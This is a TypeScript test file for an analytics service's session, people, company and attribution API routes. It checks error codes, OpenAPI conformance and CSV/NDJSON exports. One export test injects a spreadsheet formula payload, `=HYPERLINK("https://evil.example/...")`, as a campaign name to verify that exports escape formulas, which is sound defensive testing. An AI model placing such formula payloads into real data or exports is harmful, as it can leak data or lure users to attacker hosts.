import { payloads } from "@sessionhook/fixtures";
import { expect } from "vitest";
import type { RuntimeCase } from "../case.js";
import type { RuntimeContext } from "../context.js";
import { expectProblem } from "../expect-answer.js";
import { expectDocumented } from "../openapi.js";

/** The routes of the derived tables, by the path in openapi.json. */
const routes = [
  ["/sessions", "/api/sessions"],
  ["/sessions/none", "/api/sessions/{id}"],
  ["/people", "/api/people"],
  ["/people/none", "/api/people/{key}"],
  ["/companies", "/api/companies"],
  ["/companies/none", "/api/companies/{key}"],
  ["/attribution", "/api/attribution"],
] as const;

const derives = "its store has derived tables";
const derivesNothing = "its store has no derived tables yet";

type Json = Record<string, unknown>;
const jsonOf = async (answer: Response) => (await answer.json()) as Json;

/** Stores without derived tables say so. */
export const notDerivingCases: readonly RuntimeCase[] = [
  {
    name: "without derived tables, their routes answer 404 and say why",
    except: { node: derives, bun: derives, deno: derives },
    run: async (c) => {
      const all = [...routes, ["/events?person=none", "/api/events"] as const];
      for (const [path, documented] of all) {
        const answer = await c.api(path);
        await expectDocumented("GET", documented, answer.clone());
        const { detail } = await expectProblem(answer, 404, "not_found");
        expect(detail).toContain("does not derive sessions");
      }
    },
  },
];

/** Replaces what identifies session, visitor, person and company of the example, so that every case has its own. */
function visitOf(id: string, campaign: string): string {
  const event = structuredClone(payloads.full("identity.session.finalized"));
  const own: Readonly<Record<string, string>> = {
    ses_01KH5HKX7QZ2: `ses_${id}`,
    vis_01KH5HKX7QZ1: `vis_${id}`,
    evt_01KH5HM09WTF6DOE8K2H6DG2RI: id,
    "acme.example": `${id.replaceAll("_", "-").toLowerCase()}.example`,
    "zoe-unal-example": `zoe-${id}`,
    spring: campaign,
  };
  let text = JSON.stringify(event);
  for (const [before, after] of Object.entries(own))
    text = text.replaceAll(before, JSON.stringify(after).slice(1, -1));
  return text;
}

/** Sends a finalized session and returns its row when it has been derived. */
async function derivedSession(c: RuntimeContext, campaign: string): Promise<Json> {
  const event = c.id();
  const answer = await c.send(event, visitOf(event, campaign));
  expect(await answer.json()).toMatchObject({ status: "accepted" });
  for (let tries = 0; tries < 100; tries++) {
    const { sessions } = await jsonOf(await c.api(`/sessions?visitorId=vis_${event}`));
    const [row] = sessions as readonly Json[];
    if (row !== undefined) return row;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  return expect.fail("the session was not derived within 10 s");
}

const inPath = (value: unknown) =>
  typeof value === "string" ? encodeURIComponent(value) : expect.fail("expected a text");

const operations: readonly RuntimeCase[] = [
  {
    name: "a finalized session appears with its person and company, as openapi.json describes",
    run: async (c) => {
      const row = await derivedSession(c, "spring");
      expect(row).toMatchObject({ source: "google", medium: "cpc", campaign: "spring", country: "DE" });
      const [id, person, company] = [inPath(row["id"]), inPath(row["person"]), inPath(row["company"])];
      for (const [path, documented] of [
        [`/sessions?person=${person}`, "/api/sessions"],
        [`/sessions/${id}`, "/api/sessions/{id}"],
        ["/people?limit=3", "/api/people"],
        [`/people/${person}`, "/api/people/{key}"],
        ["/companies?limit=3", "/api/companies"],
        [`/companies/${company}`, "/api/companies/{key}"],
        ["/attribution?model=last&by=campaign&limit=1", "/api/attribution"],
      ] as const) {
        const answer = await c.api(path);
        expect(answer.status, path).toBe(200);
        await expectDocumented("GET", documented, answer);
      }
      const detail = await jsonOf(await c.api(`/sessions/${id}`));
      expect(detail).toMatchObject({ ...row, pages: [{ position: 0, path: "/pricing" }] });
      for (const query of [`person=${person}`, `company=${company}&from=0`]) {
        const answer = await c.api(`/events?${query}`);
        await expectDocumented("GET", "/api/events", answer.clone());
        expect((await jsonOf(answer))["events"]).toMatchObject([{ id: row["eventId"], status: "accepted" }]);
      }
      expect(await jsonOf(await c.api(`/people/${person}`))).toMatchObject({
        sessions: 1,
        company: row["company"],
      });
    },
  },
  {
    name: "unknown sessions, people and companies answer 404, bad queries 400, strangers 401, other methods 405",
    run: async (c) => {
      for (const [path, documented] of routes) {
        const one = path.endsWith("/none");
        const answer = await c.api(one ? path : `${path}?from=x`);
        await expectDocumented("GET", documented, answer.clone());
        await expectProblem(answer, one ? 404 : 400, one ? "not_found" : "invalid_query");
        // Ignored, a misspelled or repeated filter would select everything.
        for (const query of one ? [] : ["scource=google", "from=1&from=2"])
          await expectProblem(await c.api(`${path}?${query}`), 400, "invalid_query");
        await expectProblem(await c.target.fetch(`/api${path}`), 401, "unauthorized");
        await expectProblem(await c.api(path, { method: "POST" }), 405, "method_not_allowed");
      }
    },
  },
  {
    name: "exports of sessions, people, companies and attribution have no formulas",
    run: async (c) => {
      const campaign = `=HYPERLINK("https://evil.example/${c.id()}"),\r\nx`;
      const { id } = await derivedSession(c, campaign);
      const selected = `campaign=${encodeURIComponent(campaign)}`;
      for (const [list, documented] of routes.filter(([path]) => !path.endsWith("/none"))) {
        const query = list === "/attribution" ? "by=campaign" : selected;
        const csv = await c.api(`${list}?${query}&format=csv`);
        expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
        await expectDocumented("GET", documented, csv.clone());
        expect(await csv.text(), list).toContain(`"'${campaign.replaceAll('"', '""')}"`);
        const headers = { authorization: `Bearer ${c.target.adminToken}`, accept: "application/x-ndjson" };
        const ndjson = await c.target.fetch(`/api${list}?${query}`, { headers });
        await expectDocumented("GET", documented, ndjson.clone());
        const rows = (await ndjson.text())
          .trimEnd()
          .split("\n")
          .map((line) => JSON.parse(line) as Json);
        if (list === "/sessions") expect(rows.map((row) => row["id"])).toEqual([id]);
      }
    },
  },
];

/** The derived tables, for apps whose store has them and that route events. */
export const visitCases: readonly RuntimeCase[] = operations.map((one) => ({
  ...one,
  except: { "aws-lambda": derivesNothing, "cloudflare-workers": derivesNothing },
}));
